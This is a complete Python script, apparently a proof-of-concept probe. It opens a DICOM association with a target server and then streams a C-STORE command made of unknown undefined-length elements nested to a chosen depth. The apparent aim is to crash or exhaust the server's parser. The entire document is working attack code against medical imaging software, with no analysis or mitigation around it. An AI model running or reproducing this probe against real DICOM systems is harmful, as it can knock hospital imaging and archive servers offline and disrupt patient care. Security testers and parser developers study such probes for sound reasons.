"""Raw-PDU probe: associate, then send a C-STORE command set whose body nests undefined-length
unknown elements DEPTH deep (implicit VR LE). python nest.py HOST PORT CALLED DEPTH"""
import socket
import struct
import sys

host, port, called, depth = sys.argv[1], int(sys.argv[2]), sys.argv[3], int(sys.argv[4])


def item(kind, body):
    return struct.pack(">BBH", kind, 0, len(body)) + body


def uid(u):
    u = u.encode()
    return u + (b"\0" if len(u) % 2 else b"")


ctx = item(0x30, b"1.2.840.10008.5.1.4.1.1.4") + item(0x40, b"1.2.840.10008.1.2")
body = struct.pack(">HH", 1, 0) + called.encode().ljust(16) + b"NESTPROBE".ljust(16) + bytes(32)
body += item(0x10, b"1.2.840.10008.3.1.1.1")
body += item(0x20, struct.pack(">BBBB", 1, 0, 0, 0) + ctx)
body += item(0x50, item(0x51, struct.pack(">I", 16384)) + item(0x52, b"1.2.3.4"))
s = socket.create_connection((host, port), timeout=20)
s.sendall(struct.pack(">BBI", 1, 0, len(body)) + body)
head = s.recv(6)
print("association answer PDU type", head[0] if head else None)
s.recv(65536)

level = struct.pack("<HHI", 0x0000, 0x1234, 0xFFFFFFFF) + struct.pack("<HHI", 0xFFFE, 0xE000, 0xFFFFFFFF)
command = level * depth
sent = 0
chunk = 16000
try:
    for offset in range(0, len(command), chunk):
        part = command[offset:offset + chunk]
        last = offset + chunk >= len(command)
        pdv = struct.pack(">IBB", len(part) + 2, 1, 0x03 if last else 0x01) + part
        s.sendall(struct.pack(">BBI", 4, 0, len(pdv)) + pdv)
        sent += 1
    answer = s.recv(6)
    print("sent %d PDUs; answer: %r" % (sent, answer[:1] or "connection closed"))
except OSError as error:
    print("sent %d PDUs; then %s" % (sent, error))
